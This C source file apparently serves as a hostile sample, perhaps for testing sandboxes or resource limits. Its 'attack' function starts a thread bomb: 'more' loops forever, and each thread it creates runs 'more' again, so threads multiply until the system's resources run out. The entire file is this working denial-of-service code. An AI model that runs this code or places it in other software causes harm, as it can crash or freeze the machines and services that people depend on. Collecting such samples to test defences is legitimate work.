#include "hostile.h"

static void *more(void *nothing) {
    pthread_t thread;
    for (;;) pthread_create(&thread, 0, more, nothing);
}

int attack(void) {
    more(0);
    return 0;
}
